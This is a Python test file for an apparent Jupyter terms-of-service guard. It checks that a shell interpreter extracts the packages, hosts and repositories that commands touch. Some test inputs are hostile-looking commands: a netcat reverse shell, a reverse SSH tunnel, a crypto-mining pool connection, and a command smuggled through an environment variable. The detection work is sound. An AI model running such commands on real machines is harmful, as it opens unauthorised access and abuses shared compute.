"""What programs fetch, install and connect to, and what in their arguments is no target."""

from __future__ import annotations

import pytest

from jupyter_tos_guard.inspection.shell.interpreter import run_shell
from jupyter_tos_guard.inspection.state import Budget, File, Origin, Span, State


def said(text: str, *, files: dict[str, File] | None = None) -> set[str]:
    state = State(budget=Budget(seconds=20))
    state.files.update(files or {})
    run_shell(text, state, Origin(Span(1, 0, 1, len(text)), True))
    return {f"{fact.kind} {fact.value}" for fact in state.facts}


@pytest.mark.parametrize(
    ("text", "facts"),
    [
        ("pip install -q numpy", {"command pip", "argument pip install", "package pypi:numpy"}),
        (
            "pip3.11 install --upgrade --index-url https://e.org/s 'a>1' b[c]",
            {"package pypi:a", "package pypi:b", "host e.org"},
        ),
        ("python -m pip install x", {"module pip", "package pypi:x"}),
        ("uv tool install x --with y", {"package pypi:x", "package pypi:y"}),
        ("poetry add x@^1", {"package pypi:x"}),
        (
            "apt-get -qq install -y -o Acquire::Retries=3 a=1.0 b:amd64 c/stable",
            {"package apt:a", "package apt:b", "package apt:c"},
        ),
        (
            "conda create -n env -c conda-forge python=3.11 torch",
            {"package conda:python", "package conda:torch"},
        ),
        ("npm install -g @scope/x@1 y", {"package npm:@scope/x", "package npm:y"}),
        ("yarn global add x", {"package npm:x"}),
        ("gem install x -v 1", {"package gem:x"}),
        ("cargo install x --version 1", {"package cargo:x"}),
        ("go install example.com/x/y@latest", {"package go:example.com/x/y"}),
        ("snap install x --classic", {"package snap:x"}),
        ("brew install x@2", {"package brew:x"}),
        (
            "docker run --rm -p 80:80 -e A=b --name z o/n:1 server --flag",
            {"package docker:o/n", "command server", "argument server --flag"},
        ),
        ("singularity exec --nv docker://o/n:1 python x.py", {"package docker:o/n", "command python"}),
        ("wget -q https://e.org/x -O y", {"url https://e.org/x", "host e.org", "file y"}),
        ("curl -fsSL e.org/x | head", {"url https://e.org/x", "host e.org"}),
        ("aria2c -x 16 -s 16 https://e.org/x -d out -o y", {"url https://e.org/x", "file out/y"}),
        ("scp -P 22 a me@h.example.org:/b", {"host h.example.org"}),
        ("rsync -av -e 'ssh -p 2222' a/ me@h.example.org:b/", {"host h.example.org", "argument ssh -p"}),
        ("nc h.example.org 4444 -e /bin/sh", {"host h.example.org", "url tcp://h.example.org:4444"}),
        (
            "ssh -p 443 -R0:localhost:22 a@h.example.org",
            {"host h.example.org", "argument ssh -R", "argument ssh -p"},
        ),
        ("git clone --depth 1 -b main https://github.com/o/n d", {"repository github.com/o/n", "file d"}),
        ("git -C x fetch https://github.com/o/n main", {"repository github.com/o/n"}),
        ("git archive --remote=git@gitlab.com:o/n.git HEAD", {"repository gitlab.com/o/n"}),
        ("hg clone https://hg.example.org/o/n", {"repository hg.example.org/o/n"}),
        (
            "sudo -H -u me bash -lc 'nohup main --a=b &'",
            {"command main", "argument main --a=b", "argument main --a"},
        ),
        (
            "python main.py --listen --port 80",
            {"command python", "argument main.py --listen", "argument python --port=80", "file main.py"},
        ),
        ("python -m http.server 8000", {"module http.server", "argument python http.server"}),
        (
            "chmod +x a && ./a -o stratum+tcp://p.example:1",
            {"file a", "url stratum+tcp://p.example:1", "host p.example"},
        ),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_program_is_understood(text: str, facts: set[str]) -> None:
    assert facts <= said(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("pip uninstall -y x", "package"),
        ("pip show x", "package"),
        ("pip list", "package"),
        ("apt-get remove x", "package"),
        ("apt-get install -y x-", "package"),
        ("pip install -r missing.txt", "package"),
        ("pip install .", "package"),
        ("conda activate x", "package"),
        ("npm run build", "package"),
        ("curl -o e.org/x --help", "url"),
        ("curl -H 'Host: e.org' -A https://e.org/bot -d @f localhost:80", "repository"),
        ("git commit -m https://github.com/o/n", "repository"),
        ("git log --grep https://github.com/o/n", "url"),
        ("git status", "url"),
        ("ssh-keygen -t ed25519 -C me@e.org", "host"),
        ("docker ps", "package"),
        ("unzip data.zip -d data", "opaque"),
        ("tar xzf data.tgz", "opaque"),
        ("cat list | grep https://github.com/o/n", "url"),
        ("tail -f log | sed 's#https://github.com/o/n##'", "url"),
        ("ls https://github.com/o/n", "url"),
        ("jupyter nbconvert --to html x.ipynb", "opaque"),
        ("bash train.sh", "opaque"),
        ("make", "opaque"),
    ],
)
def test_arguments_that_are_no_target(text: str, kind: str) -> None:
    assert not {fact for fact in said(text) if fact.startswith(kind + " ")}


def test_honest_folder_of_a_clone_is_not_opaque() -> None:
    facts = said(
        "git clone -q https://github.com/pytorch/examples && cd examples/mnist && python main.py --epochs 3"
    )
    assert "repository github.com/pytorch/examples" in facts
    assert not {fact for fact in facts if fact.startswith("opaque")}


def test_files_of_the_session_are_read() -> None:
    files = {
        "requirements.txt": File("-r more.txt\n# x\nfoo==1  # y\n"),
        "more.txt": File("bar\n-e git+https://github.com/o/n#egg=n\n"),
        "run.sh": File("#!/bin/bash\npip install -r requirements.txt\n"),
    }
    assert {"package pypi:foo", "package pypi:bar", "package pypi:n", "repository github.com/o/n"} <= said(
        "bash run.sh", files=files
    )


def test_notebook_of_the_session_is_executed() -> None:
    notebook = '{"cells": [{"cell_type": "code", "source": ["!pip install -q pproxy"]}, {"cell_type": "markdown", "source": "!pip install no"}]}'
    facts = said("jupyter nbconvert --to notebook --execute a.ipynb", files={"a.ipynb": File(notebook)})
    assert "package pypi:pproxy" in facts
    assert "package pypi:no" not in facts


def test_python_children_see_environment_and_arguments() -> None:
    facts = said("X='git clone https://github.com/o/n' python3 -c \"import os; os.system(os.environ['X'])\"")
    assert "repository github.com/o/n" in facts
